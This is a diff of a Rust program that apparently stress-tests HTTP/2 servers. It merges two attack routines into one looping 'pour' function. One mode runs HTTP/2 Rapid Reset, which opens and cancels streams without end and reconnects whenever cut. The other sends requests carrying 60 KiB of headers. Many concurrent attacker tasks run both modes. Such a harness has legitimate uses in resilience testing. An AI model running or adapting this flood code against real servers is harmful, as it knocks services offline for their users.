@@ -94,7 +94,7 @@ impl Attack {
             }
             Self::RapidReset => {
                 for _ in 0..ATTACKERS {
-                    tasks.spawn(reset(target.clone(), Arc::clone(&sent), Arc::clone(&cut)));
+                    tasks.spawn(pour(target.clone(), 0, true, Arc::clone(&sent), Arc::clone(&cut)));
                 }
                 "resets"
             }
@@ -106,7 +106,7 @@ impl Attack {
             }
             Self::Headers => {
                 for _ in 0..ATTACKERS {
-                    tasks.spawn(headers(target.clone(), Arc::clone(&sent), Arc::clone(&cut)));
+                    tasks.spawn(pour(target.clone(), 60, false, Arc::clone(&sent), Arc::clone(&cut)));
                 }
                 "calls with 60 KiB of headers"
             }
@@ -188,21 +188,24 @@ impl Target {
     }
 }
 
-async fn reset(target: Target, sent: Arc<AtomicU64>, cut: Arc<AtomicU64>) {
+/// Calls without an end, on a new connection whenever the old one is cut.
+async fn pour(target: Target, headers: usize, gives_up: bool, sent: Arc<AtomicU64>, cut: Arc<AtomicU64>) {
     loop {
         let mut sender = target.connect().await;
-        loop {
-            sender = match sender.ready().await {
-                Ok(sender) => sender,
-                Err(_) => break,
+        while let Ok(ready) = sender.clone().ready().await {
+            sender = ready;
+            let Ok((answer, mut stream)) = sender.send_request(target.call(headers), !gives_up) else {
+                break;
             };
-            match sender.send_request(target.call(0), false) {
-                Ok((_, mut stream)) => stream.send_reset(h2::Reason::CANCEL),
-                Err(_) => break,
+            if gives_up {
+                stream.send_reset(h2::Reason::CANCEL);
+                // The connection's own task has to write it.
+                tokio::task::yield_now().await;
+            } else {
+                // Whatever it answers, the attacker goes on.
+                drop(answer.await);
             }
             sent.fetch_add(1, Ordering::Relaxed);
-            // The connection's own task has to write it.
-            tokio::task::yield_now().await;
         }
         cut.fetch_add(1, Ordering::Relaxed);
     }
@@ -218,23 +221,4 @@ async fn stall(target: Target, count: usize, sent: Arc<AtomicU64>) {
     }
     std::future::pending::<()>().await;
     drop(held);
-}
-
-async fn headers(target: Target, sent: Arc<AtomicU64>, cut: Arc<AtomicU64>) {
-    loop {
-        let mut sender = target.connect().await;
-        loop {
-            sender = match sender.ready().await {
-                Ok(sender) => sender,
-                Err(_) => break,
-            };
-            match sender.send_request(target.call(60), true) {
-                // Whatever it answers, the attacker goes on.
-                Ok((answer, _)) => drop(answer.await),
-                Err(_) => break,
-            }
-            sent.fetch_add(1, Ordering::Relaxed);
-        }
-        cut.fetch_add(1, Ordering::Relaxed);
-    }
 }
